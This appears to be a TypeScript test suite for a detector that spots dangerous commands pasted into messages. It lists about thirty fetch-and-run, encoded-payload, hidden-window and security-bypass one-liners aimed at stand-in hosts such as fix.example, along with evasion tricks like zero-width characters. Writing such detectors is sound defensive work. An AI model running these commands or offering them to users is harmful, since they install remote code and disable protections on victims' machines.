import assert from "node:assert/strict";
import { suite, test } from "node:test";
import type { CommandTrait, MessageCommand } from "@doorward/core";
import { findCommands } from "./find-commands.ts";

type Case = readonly [text: string, system: MessageCommand["system"], traits: readonly CommandTrait[]];

/** Shapes of pasted commands, none of which works. */
const pasted: readonly Case[] = [
  ["curl -fsSL https://fix.example/cam.sh | bash", "any", ["downloads", "pipes-to-interpreter"]],
  ["curl -s https://fix.example/zoom | osascript", "macos", ["downloads", "pipes-to-interpreter"]],
  ["wget -qO- http://203.0.113.9/a | sudo sh", "any", ["downloads", "pipes-to-interpreter", "elevated"]],
  ['/bin/bash -c "$(curl -fsSL https://fix.example/a.sh)"', "any", ["downloads", "pipes-to-interpreter"]],
  ["bash <(curl -s https://fix.example/a)", "any", ["downloads", "pipes-to-interpreter"]],
  ["iwr -useb https://fix.example/a.ps1 | iex", "windows", ["downloads", "pipes-to-interpreter"]],
  ["iex (irm fix.example/a)", "windows", ["downloads", "pipes-to-interpreter"]],
  [
    'powershell -w hidden -ep bypass -c "iex(irm https://fix.example/a)"',
    "windows",
    ["downloads", "pipes-to-interpreter", "hidden-window", "bypasses-policy"],
  ],
  ["powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", "windows", ["encoded"]],
  ["mshta https://fix.example/verify.hta", "windows", ["downloads"]],
  ["msiexec /i https://fix.example/sdk.msi /qn", "windows", ["downloads", "starts-installer"]],
  ["rundll32.exe \\\\fix.example@80\\share\\a.dll,Start", "windows", ["downloads"]],
  ["regsvr32 /s /n /u /i:https://fix.example/a.sct scrobj.dll", "windows", ["downloads"]],
  ["certutil -urlcache -split -f https://fix.example/a.exe a.exe", "windows", ["downloads"]],
  ["bitsadmin /transfer job https://fix.example/a.exe %TEMP%\\a.exe", "windows", ["downloads"]],
  ["curl -o /tmp/a https://fix.example/a && chmod +x /tmp/a && /tmp/a", "any", ["downloads"]],
  [
    "conhost --headless cmd /c curl -Lo %TEMP%\\v7.msi https://fix.example/v7.msi",
    "windows",
    ["downloads", "hidden-window"],
  ],
  ["cmd /c start /min powershell -c irm https://fix.example/a", "windows", ["downloads", "hidden-window"]],
  ['forfiles /p c:\\windows /m notepad.exe /c "mshta https://fix.example/a"', "windows", ["downloads"]],
  ["nslookup -q=txt fix.example 203.0.113.9 | findstr text", "windows", ["from-server"]],
  ["cmd /c \"for /f %i in ('nslookup -q=txt fix.example') do %i\"", "windows", ["from-server"]],
  ["finger a@fix.example | cmd", "windows", ["from-server", "pipes-to-interpreter"]],
  ["osascript -e 'do shell script \"curl -s https://fix.example/a\"'", "macos", ["downloads", "pipes-to-interpreter"]],
  ["echo Y3VybCAtcyBodHRwczovL2ZpeC5leGFtcGxl | base64 -D | zsh", "macos", ["encoded", "pipes-to-interpreter"]],
  ["echo Y3VybCAtcyBodHRwczovL2ZpeC5leGFtcGxl | base64 -d | bash", "any", ["encoded", "pipes-to-interpreter"]],
  ["python3 -c \"import urllib.request as u;exec(u.urlopen('https://fix.example/a').read())\"", "any", ["downloads"]],
  ["npx https://fix.example/tool.tgz", "any", ["downloads"]],
  ["pip install git+https://git.example/sdk.git", "any", ["downloads"]],
  ["wscript \\\\fix.example\\share\\update.vbs", "windows", ["downloads"]],
  ["xattr -d com.apple.quarantine ~/Downloads/Zoom.app", "macos", ["bypasses-policy"]],
  [
    "softwareupdate --evaluate-products 2>/dev/null; curl -s https://fix.example/u | osascript",
    "macos",
    ["downloads", "pipes-to-interpreter"],
  ],
  ["sudo spctl --master-disable", "macos", ["bypasses-policy", "elevated"]],
];

for (const [text, system, traits] of pasted)
  suite(text.slice(0, 60), () => {
    test("is found on a line of its own", () => {
      const [command] = findCommands(`Open the terminal and paste:\n\n${text}\n\nThen press Enter.\n`);
      assert.equal(command?.text, text.replace(/^%\s/u, ""));
      assert.equal(command.system, system);
      for (const trait of traits)
        assert.ok(command.traits.includes(trait), `${trait} is not among ${command.traits.join()}`);
    });
    test("is found in a sentence", () => {
      assert.equal(findCommands(`To fix it run \`${text}\` in your terminal, please.`).length, 1);
    });
  });

suite("how commands are written", () => {
  test("a line that a mail program broke is joined", () => {
    const text = "curl -fsSL https://fix.example/some/long/path/that/goes/to/the/margin/cam.sh\n| bash\n";
    assert.equal(findCommands(text)[0]?.text, text.trim().replace("\n", " "));
  });
  test("a line that goes on by a mark is joined", () => {
    assert.equal(findCommands("curl -s \\\n  https://fix.example/a \\\n  | sh\n").length, 1);
  });
  test("prompts and marks of quoting are no part of it", () => {
    assert.equal(
      findCommands("> $ curl -s https://fix.example/a | sh\n")[0]?.text,
      "curl -s https://fix.example/a | sh",
    );
  });
  test("characters that show nothing do not hide it", () => {
    assert.equal(findCommands('powershell -w hidden -c "i\u200Bex(irm fix.example)"').length, 1);
  });
  test("an ordinary command is told without traits", () => {
    const found = findCommands(
      "Clone it first:\n\n    git clone https://git.example/a.git\n    npm install\n    npm start\n",
    );
    assert.deepEqual(
      found.map(({ text }) => text),
      ["git clone https://git.example/a.git", "npm install", "npm start"],
    );
    assert.deepEqual(found[1]?.traits, []);
  });
  test("at most fifty are told", () => {
    assert.equal(findCommands("curl https://a.example | sh\n".repeat(500)).length, 50);
  });
});

suite("prose is no command", () => {
  for (const text of [
    "We fetched the page with curl and it worked.",
    "Please install Python and Node on your computer.",
    "PowerShell is a shell. Bash is another one.",
    "I will be in the office at the cmd center.",
    "The npm package was updated; yarn works as well.",
    "Finger print readers are supported.",
    "Can you make a call tomorrow?",
    "Docker is great, you should try it.",
    "Use sudo with care.",
  ])
    test(text, () => assert.deepEqual(findCommands(text), []));
});
